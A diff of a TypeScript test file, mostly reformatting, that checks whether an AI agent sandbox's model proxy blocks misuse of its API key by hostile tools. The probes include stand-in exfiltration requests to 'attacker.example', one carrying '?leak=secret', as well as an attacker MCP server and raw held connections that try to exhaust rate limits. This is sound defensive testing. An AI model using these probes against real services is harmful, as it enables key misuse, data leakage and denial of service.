@@ -8,7 +8,7 @@ import { call, prompt, startService, useServiceWithFake, type RunningService } f
  * The model proxy holds the real key. From inside the sandbox, with the turn token, a tool tries
  * every way to use that key for something other than the agent's own Messages calls.
  */
-describe('a tool in the sandbox, after the model key\'s reach', () => {
+describe("a tool in the sandbox, after the model key's reach", () => {
   const running = useServiceWithFake({ CLAUDERUN_MAX_OUTPUT_TOKENS: '16000' });
 
   const message = { role: 'user', content: 'hi' };
@@ -25,19 +25,41 @@ describe('a tool in the sandbox, after the model key\'s reach', () => {
     ['web fetch', '/internal/model/v1/messages', { ...allowed, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }],
     ['code execution', '/internal/model/v1/messages', { ...allowed, tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }],
     ['mcp servers', '/internal/model/v1/messages', { ...allowed, mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }],
-    ['url image', '/internal/model/v1/messages', { ...allowed, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/?leak=secret' } }] }] }],
-    ['url document in a tool result', '/internal/model/v1/messages', {
-      ...allowed,
-      messages: [{ role: 'user', content: [{ type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/' } }] }] }],
-    }],
-    ['uploaded file', '/internal/model/v1/messages', { ...allowed, messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'file_1' } }] }] }],
+    [
+      'url image',
+      '/internal/model/v1/messages',
+      {
+        ...allowed,
+        messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/?leak=secret' } }] }],
+      },
+    ],
+    [
+      'url document in a tool result',
+      '/internal/model/v1/messages',
+      {
+        ...allowed,
+        messages: [
+          {
+            role: 'user',
+            content: [
+              { type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/' } }] },
+            ],
+          },
+        ],
+      },
+    ],
+    [
+      'uploaded file',
+      '/internal/model/v1/messages',
+      { ...allowed, messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'file_1' } }] }] },
+    ],
     ['other model', '/internal/model/v1/messages', { ...allowed, model: 'claude-expensive-9' }],
     ['huge output', '/internal/model/v1/messages', { ...allowed, max_tokens: 1000000 }],
     ['unknown field', '/internal/model/v1/messages', { ...allowed, container: 'container_1' }],
     ['count tokens of another model', '/internal/model/v1/messages/count_tokens', { model: 'claude-expensive-9', messages: [message] }],
   ];
 
-  it('refuses every call but the agent\'s own, before it reaches the upstream', async () => {
+  it("refuses every call but the agent's own, before it reaches the upstream", async () => {
     const before = running.fake.requests.length;
     const script = `${SANDBOX_PRELUDE}
 const probes = ${JSON.stringify(probes)};
@@ -48,7 +70,8 @@ const probes = ${JSON.stringify(probes)};
   }
 })();`;
     const output = outputOf(await runScript(running.service, script));
-    for (const [name] of probes) expect(output, name).toMatch(new RegExp(`PROBE ${JSON.stringify(name).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} (400|404) `));
+    for (const [name] of probes)
+      expect(output, name).toMatch(new RegExp(`PROBE ${JSON.stringify(name).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} (400|404) `));
     expect(output).toContain('not_found_error');
     expect(output).toContain('invalid_request_error');
     // The only upstream requests of that turn are the agent's own two Messages calls.
@@ -92,7 +115,17 @@ const probes = ${JSON.stringify(probes)};
     const side = reached.find((r) => r.body.includes('side call'));
     expect(side?.betas).toBe('claude-code-20250219');
     for (const request of reached) {
-      for (const beta of (request.betas ?? '').split(',').filter(Boolean)) expect(['claude-code-20250219', 'interleaved-thinking-2025-05-14', 'context-management-2025-06-27', 'per-turn-control-2026-07-01', 'mid-conversation-tool-changes-2026-07-01', 'thinking-token-count-2026-05-13', 'advanced-tool-use-2025-11-20', 'effort-2025-11-24']).toContain(beta);
+      for (const beta of (request.betas ?? '').split(',').filter(Boolean))
+        expect([
+          'claude-code-20250219',
+          'interleaved-thinking-2025-05-14',
+          'context-management-2025-06-27',
+          'per-turn-control-2026-07-01',
+          'mid-conversation-tool-changes-2026-07-01',
+          'thinking-token-count-2026-05-13',
+          'advanced-tool-use-2025-11-20',
+          'effort-2025-11-24',
+        ]).toContain(beta);
     }
     const agentCalls = running.fake.calls.slice(-3).filter((call) => Array.isArray(call.body.tools));
     expect(agentCalls).toHaveLength(2);
@@ -117,7 +150,8 @@ const probes = ${JSON.stringify(probes)};
     expect(outputOf(answer)).toContain('FIRST BYTES 200');
     // The proxy reads the answer to its end and meters it, though nobody listens any more.
     const turnPath = `/api/conversations/${String(answer.body.conversationId)}/turns/${String(answer.body.turnId)}`;
-    const outputTokens = async () => ((await call(running.service, 'GET', turnPath, { userId: 'hangs-up' })).body.usage as { outputTokens: number }).outputTokens;
+    const outputTokens = async () =>
+      ((await call(running.service, 'GET', turnPath, { userId: 'hangs-up' })).body.usage as { outputTokens: number }).outputTokens;
     await expect.poll(outputTokens, { timeout: 10_000 }).toBeGreaterThanOrEqual(10_000);
   });
 
@@ -131,7 +165,8 @@ const probes = ${JSON.stringify(probes)};
     const answer = await runScript(running.service, script, { userId: 'large-answer' });
     expect(outputOf(answer)).toMatch(/WHOLE 200 1[01]\d{5}/);
     const turnPath = `/api/conversations/${String(answer.body.conversationId)}/turns/${String(answer.body.turnId)}`;
-    const usage = async () => (await call(running.service, 'GET', turnPath, { userId: 'large-answer' })).body.usage as { inputTokens: number; outputTokens: number };
+    const usage = async () =>
+      (await call(running.service, 'GET', turnPath, { userId: 'large-answer' })).body.usage as { inputTokens: number; outputTokens: number };
     await expect.poll(async () => (await usage()).outputTokens).toBeGreaterThanOrEqual(16_000);
     expect((await usage()).inputTokens).toBeGreaterThanOrEqual(275_000);
   });
@@ -151,7 +186,9 @@ describe('a turn holding model calls open', () => {
   const launcher = new ManualLauncher();
   let service: RunningService;
   beforeAll(async () => {
-    service = await startService({ CLAUDERUN_MAX_MODEL_CALLS_IN_FLIGHT: '8', CLAUDERUN_MODEL_REQUEST_BYTES_PER_MINUTE: '300000' }, undefined, { launcher });
+    service = await startService({ CLAUDERUN_MAX_MODEL_CALLS_IN_FLIGHT: '8', CLAUDERUN_MODEL_REQUEST_BYTES_PER_MINUTE: '300000' }, undefined, {
+      launcher,
+    });
   });
   afterAll(async () => service?.stop({ removeData: true }));
 
@@ -161,7 +198,9 @@ describe('a turn holding model calls open', () => {
     const port = Number(new URL(service.internalUrl).port);
     const held = Array.from({ length: 8 }, () => {
       const socket = net.connect(port, '127.0.0.1');
-      socket.write(`POST /internal/model/v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: ${token}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{"model":`);
+      socket.write(
+        `POST /internal/model/v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: ${token}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{"model":`,
+      );
       return socket;
     });
     const ninth = async () =>
@@ -172,12 +211,15 @@ describe('a turn holding model calls open', () => {
     // The held requests reach the proxy in their own time: the ninth is refused once they have.
     await expect.poll(async () => (await ninth()).status).toBe(429);
     const refused = await ninth();
-    expect(refused.body).toMatchObject({ type: 'error', error: { type: 'rate_limit_error', message: expect.stringMatching(/8 model calls in flight/) } });
+    expect(refused.body).toMatchObject({
+      type: 'error',
+      error: { type: 'rate_limit_error', message: expect.stringMatching(/8 model calls in flight/) },
+    });
     for (const socket of held) socket.destroy();
     await expect.poll(async () => (await ninth()).status).toBe(200);
   });
 
-  it('parses at most the user\'s allowance of request bytes a minute; past it, 429 before any parsing', async () => {
+  it("parses at most the user's allowance of request bytes a minute; past it, 429 before any parsing", async () => {
     await prompt(service, 'bulk', { message: 'hi' }, { prefer: 'respond-async' });
     const { token } = launcher.last().spec;
     const big = { model: 'claude-opus-5-5', max_tokens: 5, messages: [{ role: 'user', content: 'x'.repeat(120_000) }] };
@@ -188,10 +230,11 @@ describe('a turn holding model calls open', () => {
     // Unless the minute turned between the calls, the third goes over 300,000 bytes.
     if (third.status !== 200) {
       expect(third.status).toBe(429);
-      expect(third.body).toMatchObject({ error: { type: 'rate_limit_error', message: expect.stringMatching(/bytes of model requests this minute/) } });
+      expect(third.body).toMatchObject({
+        error: { type: 'rate_limit_error', message: expect.stringMatching(/bytes of model requests this minute/) },
+      });
     } else {
       expect((await send()).status).toBe(200);
     }
   });
 });
-
